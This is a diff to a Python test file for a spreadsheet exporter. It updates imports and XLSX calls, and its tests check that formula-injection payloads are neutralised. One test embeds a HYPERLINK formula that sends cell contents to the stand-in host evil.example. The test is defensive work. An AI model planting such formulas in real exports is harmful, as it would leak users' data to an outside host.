@@ -10,16 +10,8 @@ import pytest
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
-from ffs_bot.exports import (
-    CSV_MIME,
-    XLSX_MIME,
-    Cell,
-    Table,
-    export_file,
-    to_csv,
-    to_xlsx,
-    to_xlsx_sheets,
-)
+from ffs_bot.spreadsheets import CSV_MIME, XLSX_MIME, Cell, Table, export_file, to_csv
+from ffs_bot.xlsx import to_xlsx_sheets
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 TABLE = Table(
@@ -87,7 +79,7 @@ def test_csv_is_utf8_with_a_bom_and_crlf_lines_so_excel_reads_chinese() -> None:
 
 
 def test_xlsx_has_a_bold_frozen_header_real_dates_and_sensible_widths() -> None:
-    sheet = read_xlsx(to_xlsx(TABLE))
+    sheet = read_xlsx(to_xlsx_sheets([TABLE]))
     assert sheet.title == "Registrations"
     assert sheet.freeze_panes == "A2"
     assert [c.value for c in sheet[1]] == list(TABLE.header)
@@ -168,7 +160,7 @@ def _read_back(value: Cell) -> Cell:
 
 def test_xlsx_sheet_title_drops_what_excel_refuses() -> None:
     table = Table("Roster: SZ01/2027 [summer] and a title far too long for a tab", ("a",), [])
-    title = read_xlsx(to_xlsx(table)).title
+    title = read_xlsx(to_xlsx_sheets([table])).title
     assert len(title) <= 31
     assert not set(title) & set("[]:*?/\\")
 
@@ -178,7 +170,7 @@ def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(start: str) -> Non
     text = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
     table = Table("T", ("Child",), [(text,), ("ok-" + text,)])
     assert read_csv(to_csv(table))[1:] == [["'" + text], ["ok-" + text]]
-    sheet = read_xlsx(to_xlsx(table))
+    sheet = read_xlsx(to_xlsx_sheets([table]))
     # In a workbook a line break is LF, as Excel writes it, even at the start.
     lf = text.replace("\r", "\n")
     assert [c.value for c in sheet["A"]] == ["Child", "'" + lf, "ok-" + lf]
@@ -192,7 +184,7 @@ def test_naughty_strings_come_back_as_text_and_never_as_formulas(
     rows = read_csv(to_csv(table))[1:]
     assert rows == [[guarded(s), guarded(s)] for s in naughty_strings]
     assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
-    sheet = read_xlsx(to_xlsx(table))
+    sheet = read_xlsx(to_xlsx_sheets([table]))
     found = [(c.value or "", c.data_type) for c in sheet["A"][1:]]
     assert len(found) == len(naughty_strings)
     assert not [c for c in sheet["A"] if c.data_type == "f"]
@@ -292,7 +284,7 @@ def test_xlsx_cells_are_written_the_same_whatever_else_is_in_their_column() -> N
 
     header = ("Text", "Day", "Time", "At", "Mixed", "Name", "When", "Notes", "Number")
     table = Table("T", header, [row(i) for i in range(5000)])
-    sheet = load_workbook(io.BytesIO(to_xlsx(table)), read_only=True).worksheets[0]
+    sheet = load_workbook(io.BytesIO(to_xlsx_sheets([table])), read_only=True).worksheets[0]
     found = [
         [None if c.value is None else (c.value, c.number_format) for c in r]
         for r in sheet.iter_rows(min_row=2)
